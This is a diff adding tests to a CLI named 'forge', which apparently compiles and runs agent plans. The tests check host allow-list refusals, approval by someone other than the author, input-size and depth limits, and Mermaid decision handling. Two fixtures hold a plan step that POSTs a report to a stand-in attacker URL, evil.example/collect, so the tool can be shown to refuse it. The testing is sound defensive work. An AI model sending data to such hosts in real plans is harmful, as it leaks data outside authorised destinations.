@@ -126,6 +126,124 @@ def test_compile_json_gives_the_diagnostics_as_data(tmp_path):
     assert len(cycle["edges"]) == 3
 
 
+POST_TO_EVIL = """
+goal: Send the report
+steps:
+  - id: send
+    description: Send the supplier report to the purchasing service
+    tool: http_request
+    args: {method: POST, url: "https://evil.example/collect", body: {report: ok}}
+    done_when: {required_keys: [status]}
+    rollback_hint: Ask purchasing to delete the report
+"""
+
+
+def test_compile_refuses_a_host_off_the_allow_list_with_the_setting_to_change(tmp_path):
+    # Issue 25, item 3: this compiled without a word and was refused only at run time.
+    plan = write(tmp_path / "plan.yaml", POST_TO_EVIL)
+
+    result = forge("compile", str(plan))
+
+    assert result.returncode == 1, result.stdout
+    assert (
+        f"{plan}: error[host_not_allowed] step 'send' calls http_request, which will refuse "
+        "it: host 'evil.example' (port 443) is not on the allow list"
+    ) in result.stdout.splitlines()
+    assert (
+        f"{plan}:   fix: add evil.example (any port) or evil.example:443 to "
+        "FORGE_HTTP_ALLOWED_HOSTS (the forge command: --allow-host evil.example), or call a "
+        "host on the list" in result.stdout.splitlines()
+    )
+
+
+def test_compile_reaches_the_hosts_of_the_environment_and_of_allow_host(tmp_path):
+    plan = write(tmp_path / "plan.yaml", POST_TO_EVIL)
+    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO")}
+    env["FORGE_HTTP_ALLOWED_HOSTS"] = "api.example.com, evil.example"
+
+    flag = forge("compile", str(plan), "--allow-host", "evil.example")
+    setting = subprocess.run(
+        [sys.executable, "-m", "forge.cli", "compile", str(plan)],
+        capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
+    )  # fmt: skip
+
+    assert flag.returncode == 0, flag.stdout
+    assert setting.returncode == 0, setting.stdout
+    assert "host_not_allowed" not in flag.stdout + setting.stdout
+
+
+def test_run_cannot_approve_a_call_to_a_host_taken_from_an_earlier_step(tmp_path):
+    plan = write(
+        tmp_path / "plan.yaml",
+        """
+goal: Send the report
+steps:
+  - {id: find, description: Find the purchasing endpoint, tool: echo,
+     args: {url: "https://evil.example/collect"}, done_when: {required_keys: [url]}}
+  - id: send
+    description: Send the report to the endpoint found
+    depends_on: [find]
+    tool: http_request
+    args: {method: POST, url: {$from: find, path: url}, body: {report: ok}}
+    rollback_hint: Ask purchasing to delete the report
+""",
+    )
+
+    result = forge("run", str(plan), "--workspace", str(tmp_path / "ws"), "--approve-as", "carol")
+
+    assert result.returncode == 4, result.stdout
+    assert "approved step send" not in result.stdout
+    lines = result.stdout.splitlines()
+    assert (
+        "waiting for a person: step 'send' cannot be approved: its call will be refused; an "
+        "approver who did not write this version may reject it to replan (step 'send' cannot "
+        "be approved: its call will be refused (host 'evil.example' (port 443) is not on the "
+        "allow list [host_not_allowed]); add evil.example (any port) or evil.example:443 to "
+        "FORGE_HTTP_ALLOWED_HOSTS (the forge command: --allow-host evil.example), or call a "
+        "host on the list. Reject it to replan)"
+    ) in lines
+    assert (
+        "send cannot run: host 'evil.example' (port 443) is not on the allow list "
+        "[host_not_allowed]"
+    ) in lines
+
+
+DECISION = """\
+flowchart TD
+    fetch[Fetch the supplier record] --> check{Is the record complete?}
+    check -->|yes| score[Score the supplier]
+    check -->|no| ask[Ask the supplier for the missing data]
+"""
+
+
+def test_compile_warns_of_a_flattened_mermaid_decision_and_keeps_its_exit_code(tmp_path):
+    # Issue 25, item 8: both branches of a decision run; import says so.
+    chart = write(tmp_path / "plan.mmd", DECISION)
+
+    text = forge("compile", str(chart))
+    data = json.loads(forge("compile", str(chart), "--json").stdout)
+
+    assert text.returncode == 1  # agent steps without tools: errors, as before
+    assert (
+        f"{chart}: warning[flattened_decision] decision 'check' (\"Is the record complete?\") "
+        "is imported as an ordinary step: a plan has no conditions, so both of its branches "
+        "run after it: 'score' (yes) and 'ask' (no)"
+    ) in text.stdout.splitlines()
+    assert f"{chart}:   fix: keep the branch that should run" in text.stdout
+    [flattened] = [d for d in data["diagnostics"] if d["code"] == "flattened_decision"]
+    assert flattened["nodes"] == ["check", "score", "ask"]
+
+
+def test_export_keeps_the_branch_labels_and_warns_on_stderr(tmp_path):
+    chart = write(tmp_path / "plan.mmd", DECISION)
+
+    result = forge("export", str(chart), "--to", "yaml")
+
+    assert result.returncode == 0, result.stderr
+    assert "Score the supplier (if Is the record complete?: yes)" in result.stdout
+    assert result.stderr.startswith(f"forge: {chart}: warning[flattened_decision] decision 'check'")
+
+
 def test_compile_of_the_seed_example_reports_warnings_only_when_its_tools_exist():
     result = forge("compile", "examples/agent-step-in-chinese.json", "--json")
 
@@ -140,6 +258,20 @@ def test_unreadable_input_exits_2(tmp_path):
     assert "invalid_json" in broken.stderr
 
 
+def test_a_plan_nested_absurdly_deep_exits_2_naming_the_limit_not_a_traceback(tmp_path):
+    levels = 100_000
+    args = '{"a":' * levels + "1" + "}" * levels
+    plan = '{"goal": "g", "steps": [{"id": "a", "tool": "echo", "args": ' + args + "}]}"
+
+    for command in ("compile", "run", "export"):
+        extra = {"run": ("--approve-as", "ada"), "export": ("--to", "yaml")}.get(command, ())
+        result = forge(command, str(write(tmp_path / "deep.json", plan)), *extra)
+
+        assert result.returncode == 2, result.stderr
+        assert "document_too_deep" in result.stderr
+        assert "Traceback" not in result.stderr
+
+
 def test_the_step_limit_is_a_flag_and_its_refusal_names_it(tmp_path):
     result = forge("compile", "examples/release-notes.yaml", "--max-steps", "2")
 
@@ -147,11 +279,28 @@ def test_the_step_limit_is_a_flag_and_its_refusal_names_it(tmp_path):
     assert "max_steps" in result.stderr
 
 
+def test_a_long_plan_is_refused_for_its_steps_naming_the_flag_that_raises_the_limit(tmp_path):
+    # 42 nodes a step: 12,600 in all, over the 10,000 nodes 200 steps allow
+    args = {f"k{k}": k for k in range(16)}
+    steps = [
+        {"id": f"s{n}", "tool": "echo", "args": args, "depends_on": [f"s{n - 1}"] if n else []}
+        for n in range(300)
+    ]
+    plan = write(tmp_path / "long.json", json.dumps({"goal": "long", "steps": steps}))
+
+    refused = forge("compile", str(plan), "--max-steps", "200")
+
+    assert refused.returncode == 2
+    assert "document has 300 steps, over the limit of 200 steps" in refused.stderr
+    assert "(max_steps; --max-steps sets it) [too_many_steps]" in refused.stderr
+    assert forge("compile", str(plan), "--max-steps", "300").returncode == 0
+
+
 def test_the_size_limit_is_a_flag_and_its_refusal_names_it():
     result = forge("compile", "examples/release-notes.yaml", "--max-bytes", "100")
 
     assert result.returncode == 2
-    assert "max_bytes" in result.stderr
+    assert "(max_bytes; --max-bytes sets it)" in result.stderr
 
 
 @pytest.mark.parametrize(("size", "read"), [(0, 0), (5, 5), (10, 10), (11, 11), (4096, 11)])
@@ -231,6 +380,26 @@ def test_the_author_of_a_plan_cannot_approve_it(tmp_path):
     assert list(tmp_path.iterdir()) == []
 
 
+@pytest.mark.parametrize("approver", ["CAROL", " carol", "Carol "])
+def test_the_author_spelled_another_way_cannot_approve_it_either(tmp_path, approver):
+    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path),
+                   "--author", "carol", "--approve-as", approver)  # fmt: skip
+
+    assert result.returncode == 4
+    assert "wrote version 1 and cannot approve it" in result.stdout
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("flags", [("--approve-as", ""), ("--approve-as", "  "),
+                                   ("--approve-as", "bob", "--author", " ")])  # fmt: skip
+def test_an_empty_name_is_refused_before_anything_runs(tmp_path, flags):
+    result = forge("run", "examples/release-notes.yaml", "--workspace", str(tmp_path), *flags)
+
+    assert result.returncode == 2
+    assert "a person's name" in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
 FAILING = """
 goal: Summarise the supplier contracts
 steps:
@@ -260,6 +429,29 @@ def test_run_stops_at_a_failed_contract_with_exit_3_and_the_reset_and_preserved_
     assert "step score invalid: check 1 failed" in result.stdout
     assert "reset: report, score" in result.stdout
     assert "preserved: gather" in result.stdout
+
+
+def test_a_check_that_cannot_be_evaluated_needs_a_replan_with_exit_3_and_says_why(tmp_path):
+    plan = write(
+        tmp_path / "plan.yaml",
+        """
+goal: Check the supplier
+steps:
+  - id: inspect
+    description: Read the supplier's name
+    tool: echo
+    args: {name: Initech}
+    done_when: {checks: ["contains(supplier, 'ACME')"]}
+""",
+    )
+
+    result = forge("run", str(plan), "--approve-as", "ada")
+
+    assert result.returncode == 3, result.stderr
+    assert "Traceback" not in result.stderr
+    assert "contains(supplier, 'ACME') with supplier = null: cannot be evaluated" in (
+        result.stdout + result.stderr
+    )
 
 
 def test_run_continues_through_a_scripted_replan_without_rerunning_preserved_steps(tmp_path):
